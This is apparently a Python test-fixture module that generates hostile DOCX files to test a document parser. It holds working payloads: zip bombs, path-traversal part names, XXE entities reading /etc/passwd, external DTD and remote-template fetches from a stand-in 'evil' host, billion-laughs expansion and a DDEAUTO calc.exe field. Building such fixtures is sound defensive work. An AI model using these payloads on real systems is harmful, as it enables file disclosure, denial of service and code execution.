"""Hostile DOCX files: tricks of the archive, of XML, and of Word's own format."""

import io
import struct
import zipfile
from collections.abc import Mapping

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.styles+xml"/><Override PartName="/word/numbering.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/></Types>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_ROOT = _RELS.format(f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>')
_LINES = ("Jo Doe", "jo@example.org", "Experience", "Baker, Mills Ltd, 2019 - 2024", "Baked bread by night")


def paragraphs(*lines: str) -> str:
    """One paragraph a line."""
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def body(inner: str, head: str = "") -> bytes:
    """A main part."""
    return f'<?xml version="1.0"?>{head}<w:document {_W} {_R}><w:body>{inner}</w:body></w:document>'.encode()


def package(document: bytes, more: Mapping[str, bytes] | None = None, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive with a main part and what it needs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        parts = {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _ROOT.encode(), "word/document.xml": document}
        for name, data in {**parts, **(more or {})}.items():
            archive.writestr(name, data)
    return out.getvalue()


def _styles(inner: str) -> dict[str, bytes]:
    relation = f'<Relationship Id="rId1" Type="{_OFFICE}/styles" Target="styles.xml"/>'
    return {
        "word/styles.xml": f'<?xml version="1.0"?><w:styles {_W}>{inner}</w:styles>'.encode(),
        "word/_rels/document.xml.rels": _RELS.format(relation).encode(),
    }


def _leading(target: str, kind: str) -> dict[str, bytes]:
    relation = f'<Relationship Id="rId9" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": _RELS.format(relation).encode()}


def _overlapping(copies: int) -> bytes:
    """Many entries of the directory that all mean the same packed bytes (D. Fifield's bomb, without its quoting)."""
    data = package(body(paragraphs(*_LINES)), {"a.xml": b" " * 4_000_000})
    end = data.rindex(b"PK\x05\x06")
    begin = struct.unpack_from("<I", data, end + 16)[0]
    at = data.rindex(b"PK\x01\x02", begin, end)
    entry = data[at:end]
    directory = data[begin:end] + b"".join(entry.replace(b"a.xml", b"%05d" % n) for n in range(copies))
    count = struct.unpack_from("<H", data, end + 10)[0] + copies
    return (
        data[:begin]
        + directory
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), begin, 0)
    )


def _flagged(data: bytes, bits: int, method: int | None = None) -> bytes:
    """The same with other flags, and perhaps another method, in every header."""
    made = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            struct.pack_into("<H", made, at + place, bits)
            if method is not None:
                struct.pack_into("<H", made, at + place + 2, method)
            at = made.find(mark, at + 4)
    return bytes(made)


def _named(name: str) -> bytes:
    return package(body(paragraphs(*_LINES)), {name: b"outside"})


def _entities(depth: int) -> str:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{lines}]>'


def packages() -> dict[str, bytes]:
    """By name."""
    plain = body(paragraphs(*_LINES))
    whole = package(plain)
    return {**_archives(plain, whole), **_xml(plain), **_word(plain)}


def _archives(plain: bytes, whole: bytes) -> dict[str, bytes]:
    return {
        "cut in the middle": whole[: len(whole) // 2],
        "only its first bytes": b"PK\x03\x04",
        "bomb": package(plain, {"word/media/a.xml": b" " * 60_000_000}),
        "bomb in its main part": package(body(" " * 20_000_000)),
        "bomb of overlapping parts": _overlapping(500),
        "bomb in a bomb": package(plain, {"a.zip": package(plain, {"b.xml": b"\0" * 9_000_000})}),
        "20,000 parts": package(plain, {f"p{n}": b"" for n in range(20_000)}, method=zipfile.ZIP_STORED),
        "a part named upwards": _named("../../../../etc/passwd"),
        "a part named from the root": _named("/etc/passwd"),
        "a part named with a zero": _named("word/document.xml?.png").replace(b".xml?", b".xml\0"),
        "a part named backwards": _named("word\\document.xml"),
        "locked parts": _flagged(whole, 1),
        "an unknown packing": _flagged(whole, 0, 99),
        "packed by LZMA": package(plain, {"a.xml": b" " * 4_000_000}, method=zipfile.ZIP_LZMA),
        "sizes that lie": whole.replace(struct.pack("<I", len(plain)), struct.pack("<I", 7)),
        "sums that lie": whole[:14] + b"\1\2\3\4" + whole[18:],
        "a directory beyond its end": whole[:-6] + b"\xff\xff\xff\x7f" + whole[-2:],
        "also a PDF": b"PK\x03\x04" + b"%PDF-1.7\n" + whole,
        "only a zip": package(plain).replace(b"word/document.xml", b"word/somewhat.xml"),
    }


def _xml(plain: bytes) -> dict[str, bytes]:
    passwd = '<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
    outside = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
    parameter = '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd">%a;]>'
    return {
        "an outer entity": package(body(paragraphs("Jo &leak;"), passwd)),
        "an outer entity in UTF-16": package(
            body(paragraphs("Jo &leak;"), passwd).decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
        ),
        "an outer entity behind blanks": package(body(paragraphs("Jo &leak;"), " " * 300_000 + passwd)),
        "an outer entity between two chunks": package(body(paragraphs("Jo &leak;"), " " * (262_144 - 26) + passwd)),
        "an outer entity in the styles": package(plain, {"word/styles.xml": passwd.encode() + b"<x>&leak;</x>"}),
        "an outer entity in the relations": package(plain, {"word/_rels/document.xml.rels": passwd.encode() + b"<x/>"}),
        "an outer definition": package(body(paragraphs(*_LINES), outside)),
        "a parameter entity": package(body(paragraphs(*_LINES), parameter)),
        "a billion laughs": package(body(paragraphs("&e9;"), _entities(10))),
        "elements 200,000 deep": package(body("<w:p>" * 200_000)),
        "elements 5,000 deep": package(body("<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000)),
        "an attribute of 9 MB": package(body(f'<w:p w:x="{"a" * 9_000_000}"/>')),
        "a text of 9 MB": package(body(paragraphs("baker " * 1_500_000))),
        "100,000 attributes": package(body("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")),
        "an encoding that is none": package(plain.replace(b"?>", b' encoding="x-nobody"?>', 1)),
        "UTF-7": package(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-'),
        "a zero in it": package(plain.replace(b"Jo", b"J\0o")),
        "no XML at all": package(b"%PDF-1.7"),
        "another kind of XML": package(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    }


def _word(plain: bytes) -> dict[str, bytes]:
    based = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3)
    )
    styled = '<w:p><w:pPr><w:pStyle w:val="s0"/><w:numPr><w:ilvl w:val="{0}"/><w:numId w:val="{0}"/></w:numPr></w:pPr>'
    huge = "9" * 400
    return {
        "styles in a circle": package(body(styled.format(1) + "<w:r><w:t>Jo Doe</w:t></w:r></w:p>"), _styles(based)),
        "a list of absurd depth": package(body(styled.format(huge) + "<w:r><w:t>Jo Doe</w:t></w:r></w:p>")),
        "letters of absurd size": package(
            body(f'<w:p><w:r><w:rPr><w:sz w:val="{huge}"/></w:rPr><w:t>Jo Doe</w:t></w:r></w:p>')
        ),
        "a cell over 10^9 columns": package(
            body(
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
                f"{paragraphs(*_LINES)}</w:tc></w:tr></w:tbl>"
            )
        ),
        "a template from the web": package(plain, _leading("http://127.0.0.1:9/evil.dotm", "attachedTemplate")),
        "a picture of this machine": package(plain, _leading("file:///etc/passwd", "image")),
        "a main part that is elsewhere": package(
            plain, {"_rels/.rels": _ROOT.replace("word/", "file:///etc/").encode()}
        ),
        "a field that runs": package(
            body('<w:p><w:fldSimple w:instr="DDEAUTO calc.exe"><w:r><w:t>Jo</w:t></w:r></w:fldSimple></w:p>')
        ),
        "8,000 empty tables": package(body("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>" * 8_000)),
        "fields that never end": package(body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 20_000)),
        "macros": package(plain, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5_000}),
    }
